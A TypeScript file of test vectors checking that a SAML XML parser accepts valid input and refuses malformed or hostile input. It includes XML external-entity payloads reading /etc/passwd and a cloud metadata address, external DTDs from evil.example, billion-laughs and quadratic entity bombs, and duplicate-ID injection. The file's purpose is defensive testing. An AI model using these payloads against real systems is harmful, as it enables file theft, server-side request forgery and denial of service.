import type { Keys } from '../keys.js'
import { cases, type Json, type Vector } from '../vector.js'
import { attribute, nameID, statement, subject, tag } from './template.js'
import { inParts, samlToolbox, swapped } from './toolbox.js'
import { ADMIN, PERSON, SAML } from './world.js'

/** The kind of XML that is read. Every message was signed before the fault was put in. */
export function xmlVectors(keys: Keys): readonly Vector[] {
  const { accepted, refused, vectors } = cases('response', 'xml', [], 'saml')
  const { input, signed } = samlToolbox(keys)
  const text = signed()
  const tagged = signed({ statement: statement(attribute('team', '@@')) })
  /** The message with this text as the value of an attribute. */
  const valued = (value: string): Json => input(swapped(tagged, '@@', value))
  /** The message with more written into a start tag. */
  const inTag = (name: string, more: string): Json => input(swapped(text, `<${name} `, `<${name} ${more} `))
  const inRoot = (more: string): Json => inTag('samlp:Response', more)
  const before = (more: string): Json => input(more + text)
  const after = (more: string): Json => input(text + more)
  const value = (team: string) => ({ value: { attributes: { team: [team] } } })
  const of = (content: string): string => signed({ statement: statement(attribute('team', content)) })

  const S66 = { attacks: ['S66'] }
  accepted('xml-characters', 'controls-written', 'tab and line break in a value, and a carriage return as a reference', input(of('a\t\n&#xD;b')), { ...S66, ...value('a\t\n\rb') }) // prettier-ignore
  accepted('xml-characters', 'last', 'the last characters of each range', input(of('\ud7ff\ue000\ufffd\u{10ffff}')), { ...S66, ...value('\ud7ff\ue000\ufffd\u{10ffff}') }) // prettier-ignore
  const illegal: readonly [string, string, string][] = [
    ['nul', 'NUL', '\0'],
    ['backspace', 'a backspace', '\b'],
    ['escape', 'ESC, which colours a terminal', '\u001b[31m'],
    ['unit-separator', 'U+001F', '\u001f'],
    ['not-a-character', 'U+FFFE', '\ufffe'],
    ['last-of-plane', 'U+FFFF', '\uffff'],
    ['high-surrogate', 'the first half of a surrogate pair', '\ud83d'],
    ['low-surrogate', 'the second half of a surrogate pair', '\ude00'],
  ]
  for (const [name, title, one] of illegal)
    refused('xml-characters', name, 'illegal', title, valued(`a${one}b`), S66)
  refused('xml-characters', 'nul-at-the-end', 'illegal', 'NUL after the root element', after('\0'), { attacks: ['S63', 'S66'] }) // prettier-ignore

  doctypeVectors()
  accepted(
    'xml-processing-instruction',
    'declaration',
    'the XML declaration',
    before('<?xml version="1.0"?>'),
  )
  const S27 = { attacks: ['S27'] }
  const instructed: readonly [string, string, Json][] = [
    ['in-name-id', 'one that a reader takes for text, in the NameID', input(swapped(signed({ subject: subject(nameID(ADMIN)) }), ADMIN, `<?x ${ADMIN}?>`))], // prettier-ignore
    ['in-value', 'one in a value', valued('a<?x y?>b')],
    [
      'in-digest',
      'one in the DigestValue',
      input(text.replace('<ds:DigestValue>', '<ds:DigestValue><?x y?>')),
    ],
    ['before', 'a style sheet before the root element', before('<?xml-stylesheet href="https://evil.example/x.xsl"?>')], // prettier-ignore
    ['after', 'one after the root element', after('<?x?>')],
    ['second-declaration', 'a second XML declaration', before('<?xml version="1.0"?><?xml version="1.0"?>')],
    ['declaration-inside', 'an XML declaration after white space', before('\n<?xml version="1.0"?>')],
    ['unclosed', 'one that does not end', after('<?x')],
  ]
  for (const [name, title, message] of instructed)
    refused('xml-processing-instruction', name, 'present', title, message, S27)

  const S64 = { attacks: ['S64'] }
  const S26 = { attacks: ['S26'] }
  accepted('xml-namespaces', 'prefixes', 'prefixes of other names', input(renamed(text)), S64)
  accepted('xml-namespaces', 'default', 'the default namespace, declared and taken back', input(withDefault()), S64) // prettier-ignore
  accepted('xml-namespaces', 'xml-prefix', 'the prefix xml, declared as what it is', inRoot('xmlns:xml="http://www.w3.org/XML/1998/namespace" xml:lang="en"'), S64) // prettier-ignore
  accepted('xml-namespaces', 'unused', 'a declaration that nothing uses', inRoot('xmlns:unused="urn:example:unused"'), S64) // prettier-ignore
  const spaces: readonly [string, string, string, Json, { readonly attacks: string[] }][] = [
    ['undeclared-element', 'undeclared-prefix', 'an element whose prefix is not declared', input(text.replaceAll('samlp:Status', 'p:Status')), S64], // prettier-ignore
    [
      'undeclared-attribute',
      'undeclared-prefix',
      'an attribute whose prefix is not declared',
      inRoot('p:a="b"'),
      S64,
    ],
    ['out-of-scope', 'undeclared-prefix', 'a prefix after the element that declared it', input(swapped(text, '</ds:Signature>', '</ds:Signature><ds:Object/>')), S64], // prettier-ignore
    ['two-colons', 'name', 'a name with two colons', inRoot('a:b:c="d"'), S64],
    ['colon-first', 'element-name', 'a name that begins with a colon', input(swapped(text, '<samlp:Status>', '<:Status>')), S64], // prettier-ignore
    ['colon-last', 'name', 'a name that ends with a colon', inRoot('samlp:="b"'), S64],
    ['prefix-empty', 'empty', 'a prefix that stands for no namespace', inRoot('xmlns:p=""'), S64],
    ['prefix-xmlns', 'reserved', 'the prefix xmlns, declared', inRoot('xmlns:xmlns="http://www.w3.org/2000/xmlns/"'), S64], // prettier-ignore
    ['name-of-xmlns', 'reserved', 'another prefix for the namespace of xmlns', inRoot('xmlns:p="http://www.w3.org/2000/xmlns/"'), S64], // prettier-ignore
    [
      'prefix-xml',
      'reserved',
      'the prefix xml for another namespace',
      inRoot('xmlns:xml="urn:example:other"'),
      S64,
    ],
    ['name-of-xml', 'reserved', 'another prefix for the namespace of xml', inRoot('xmlns:p="http://www.w3.org/XML/1998/namespace"'), S64], // prettier-ignore
    ['default-xml', 'reserved', 'the namespace of xml as the default', inTag('saml:Assertion', 'xmlns="http://www.w3.org/XML/1998/namespace"'), S64], // prettier-ignore
    [
      'relative',
      'not-a-uri',
      'a relative name, of which no canonical form is defined',
      inRoot('xmlns:p="1"'),
      S26,
    ],
    ['relative-path', 'not-a-uri', 'a relative path', inTag('saml:Assertion', 'xmlns:p="../other"'), S26],
    ['no-scheme', 'not-a-uri', 'a name that begins with a colon', inRoot('xmlns:p=":x"'), S26],
    ['white-space', 'not-a-uri', 'a name with a space in it', inRoot('xmlns:p="urn:a b"'), S26],
    ['not-ascii', 'not-a-uri', 'a name with a letter beyond ASCII', inRoot('xmlns:p="urn:\u00e9"'), S26],
    [
      'angle-bracket',
      'not-a-uri',
      'a name with markup in it',
      inRoot('xmlns:p="urn:&lt;a>"'),
      { attacks: ['S30'] },
    ],
    ['quote', 'not-a-uri', 'a name with a quote in it', inRoot('xmlns:p="urn:&quot; xmlns:q=&quot;urn:q"'), { attacks: ['S30'] }], // prettier-ignore
  ]
  for (const [name, reason, title, message, more] of spaces) {
    if (reason === 'element-name') refused('xml-well-formed', name, reason, title, message, more)
    else refused('xml-namespaces', name, reason, title, message, more)
  }

  const S63 = { attacks: ['S63'] }
  accepted('xml-duplicate-attribute', 'namespaces', 'two attributes of one local name in two namespaces', inRoot('xmlns:p="urn:p" xmlns:q="urn:q" p:a="1" q:a="2"'), S63) // prettier-ignore
  const twice: readonly [string, string, string, Json][] = [
    ['same', 'attribute', 'an attribute that occurs twice', inRoot('Version="2.0"')],
    ['id', 'attribute', 'an ID that occurs twice', inTag('saml:Assertion', 'ID="_evil"')],
    ['by-namespace', 'attribute', 'two prefixes of one namespace', inRoot('xmlns:p="urn:p" xmlns:q="urn:p" p:a="1" q:a="2"')], // prettier-ignore
    ['among-many', 'attribute', 'one of many that occurs twice', inRoot(`${Array.from({ length: 20 }, (_, one) => `a${one}=""`).join(' ')} a7=""`)], // prettier-ignore
    ['declaration', 'declaration', 'a prefix that is declared twice', inRoot(`xmlns:saml="${SAML}"`)],
    ['default-declaration', 'declaration', 'a default namespace that is declared twice', inRoot('xmlns="urn:a" xmlns="urn:b"')], // prettier-ignore
  ]
  for (const [name, reason, title, message] of twice)
    refused('xml-duplicate-attribute', name, reason, title, message, S63)
  return [...vectors, ...limitVectors(keys)]

  function renamed(of: string): string {
    // Of what the signature does not cover, to keep it.
    return of.replaceAll('<samlp:', '<p:').replaceAll('</samlp:', '</p:').replace('xmlns:samlp=', 'xmlns:p=')
  }
  function withDefault(): string {
    const extensions = tag('samlp:Extensions', {}, '<e xmlns="urn:example:e"><f xmlns=""><g/></f></e>')
    return signed({}, { extensions })
  }
  /** Nothing of a document type is read: neither entities nor defaults. */
  function doctypeVectors(): void {
    const entity = (declared: string): string => `<!DOCTYPE r [${declared}]>`
    const named = (types: string, name: string): Json => input(types + swapped(text, PERSON, name))
    const laughs = Array.from(
      { length: 10 },
      (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
    )
    accepted('xml-doctype', 'none', 'no document type, and its name in a value', input(of('&lt;!DOCTYPE a>')), value('<!DOCTYPE a>')) // prettier-ignore
    const types: readonly [string, string, string[], Json][] = [
      ['bare', 'a document type that declares nothing', ['S60'], before('<!DOCTYPE samlp:Response>')],
      ['case', 'one in lower case', ['S60'], before('<!doctype r>')],
      ['internal-entity', 'an entity that stands for the name that was signed', ['S60'], named(entity(`<!ENTITY n "${PERSON}">`), '&n;')], // prettier-ignore
      ['default-attribute', 'an attribute by default: an ID', ['S60', 'S32'], before(entity('<!ATTLIST saml:Subject ID CDATA "_assertion-1">'))], // prettier-ignore
      ['id-attribute', 'an attribute that is declared to be an ID', ['S60', 'S23'], before(entity('<!ATTLIST saml:Assertion SessionIndex ID #IMPLIED>'))], // prettier-ignore
      ['external-entity', 'an entity from a file', ['S61'], named(entity('<!ENTITY n SYSTEM "file:///etc/passwd">'), '&n;')], // prettier-ignore
      ['external-entity-url', 'an entity from the network', ['S61'], named(entity('<!ENTITY n SYSTEM "http://169.254.169.254/">'), '&n;')], // prettier-ignore
      ['parameter-entity', 'a parameter entity', ['S61'], before(entity('<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;'))], // prettier-ignore
      [
        'external-subset',
        'an external subset',
        ['S61'],
        before('<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">'),
      ],
      ['public', 'an external subset with a public name', ['S61'], before('<!DOCTYPE r PUBLIC "-//X//Y" "https://evil.example/x.dtd">')], // prettier-ignore
      ['billion-laughs', 'entities that expand to ten billion', ['S62'], named(entity(`<!ENTITY e0 "ha">${laughs.join('')}`), '&e10;')], // prettier-ignore
      ['quadratic', 'a long entity, used often', ['S62'], input(inParts(entity(`<!ENTITY e "${'a'.repeat(50_000)}">`) + swapped(text, PERSON, '&e;'.repeat(20_000)), 'a', '&e;'))], // prettier-ignore
      ['inside', 'a document type inside the root element', ['S60'], input(swapped(text, '<samlp:Status>', '<!DOCTYPE r><samlp:Status>'))], // prettier-ignore
      ['after', 'a document type after the root element', ['S60'], after('<!DOCTYPE r>')],
      ['unclosed', 'a document type that does not end', ['S60', 'S72'], before('<!DOCTYPE r [')],
      ['after-comment', 'a document type behind a comment', ['S60'], before('<!-- x --><!DOCTYPE r>')],
    ]
    for (const [name, title, attacks, message] of types) refused('xml-doctype', name, 'present', title, message, { attacks }) // prettier-ignore
  }
}

/** How much of it there may be. */
function limitVectors(keys: Keys): readonly Vector[] {
  const { accepted, refused, vectors } = cases('response', 'xml', [], 'saml')
  const { input, signed } = samlToolbox(keys)
  const text = signed()
  /** Beside what is signed: a limit is no matter of signatures. */
  const extended = (content: string): string =>
    swapped(
      text,
      '<samlp:Status>',
      `${tag('samlp:Extensions', { 'xmlns:e': 'urn:example:e' }, content)}<samlp:Status>`,
    )
  const nested = (depth: number): string => extended('<e:e>'.repeat(depth) + '</e:e>'.repeat(depth))
  const S70 = { attacks: ['S70'] }
  // Response and Extensions are two.
  accepted(
    'xml-limits',
    'depth',
    'elements that nest 64 deep',
    input(inParts(nested(62), '<e:e>', '</e:e>')),
    S70,
  )
  refused('xml-limits', 'depth-above', 'depth', 'elements that nest 65 deep', input(inParts(nested(63), '<e:e>', '</e:e>')), S70) // prettier-ignore
  refused('xml-limits', 'depth-far-above', 'depth', 'elements that nest 20,000 deep', input(inParts(`${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}`, '<a>', '</a>')), S70) // prettier-ignore
  refused('xml-limits', 'unclosed', 'depth', '80,000 elements that do not end', input(inParts('<a>'.repeat(80_000), '<a>')), { attacks: ['S70', 'S72'] }) // prettier-ignore

  const S71 = { attacks: ['S71'] }
  const wide = (count: number, one: string): string => extended(one.repeat(count))
  const own = nodesIn(wide(8, '<e:e/>')) - 8
  accepted(
    'xml-limits',
    'nodes',
    'exactly 5,000 nodes',
    input(inParts(wide(5_000 - own, '<e:e/>'), '<e:e/>')),
    S71,
  )
  refused('xml-limits', 'nodes-above', 'nodes', '5,001 nodes', input(inParts(wide(5_001 - own, '<e:e/>'), '<e:e/>')), S71) // prettier-ignore
  const many: readonly [string, string, string, string][] = [
    ['attributes', '40,000 attributes', `<samlp:Response${' a="b"'.repeat(40_000)}/>`, ' a="b"'],
    [
      'declarations',
      '15,000 declarations of one prefix',
      `<r${' xmlns:a="u:a"'.repeat(15_000)}/>`,
      ' xmlns:a="u:a"',
    ],
    ['texts', 'texts that comments part', wide(20_000, 'x<!---->'), 'x<!---->'], // prettier-ignore
    ['equal-ids', '20,000 equal IDs', wide(20_000, '<e ID="_"/>'), '<e ID="_"/>'], // prettier-ignore
  ]
  for (const [name, title, message, repeated] of many) refused('xml-limits', name, 'nodes', title, input(inParts(message, repeated)), S71) // prettier-ignore
  const uri = (length: number): string => `urn:${'x'.repeat(length - 4)}`
  const spaced = (length: number): Json =>
    input(inParts(swapped(text, '<samlp:Response ', `<samlp:Response xmlns:e="${uri(length)}" `), 'x'))
  accepted('xml-limits', 'namespace', 'a namespace whose name has 1,024 characters', spaced(1_024), S71)
  refused('xml-limits', 'namespace-above', 'namespace', 'a namespace whose name has 1,025 characters', spaced(1_025), S71) // prettier-ignore
  return vectors
}

/** Elements, attributes, declarations and texts: of a message without comments. */
function nodesIn(text: string): number {
  const tags = text.match(/<[^/?!][^>]*>/g) ?? []
  const attributes = tags.flatMap((one) => one.match(/ [\w:.-]+="/g) ?? [])
  return tags.length + attributes.length + (text.match(/>[^<>]+</g) ?? []).length
}
